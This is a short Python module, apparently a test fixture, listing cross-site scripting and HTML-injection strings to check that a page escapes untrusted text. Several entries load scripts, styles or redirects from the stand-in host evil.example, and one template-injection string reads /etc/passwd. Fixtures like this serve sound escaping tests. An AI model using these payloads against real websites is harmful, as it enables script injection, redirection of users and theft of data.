"""Texts that would do harm on a page that does not escape them."""

from __future__ import annotations

PAYLOADS = [
    "<script>alert(1)</script>",
    "</pre><script src=//evil.example/x.js></script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<a href=javascript:alert(1)>x</a>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><button>x</button></form>",
    "<style>@import '//evil.example/x.css'</style>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "&lt;script&gt;&#x3C;script>",
]
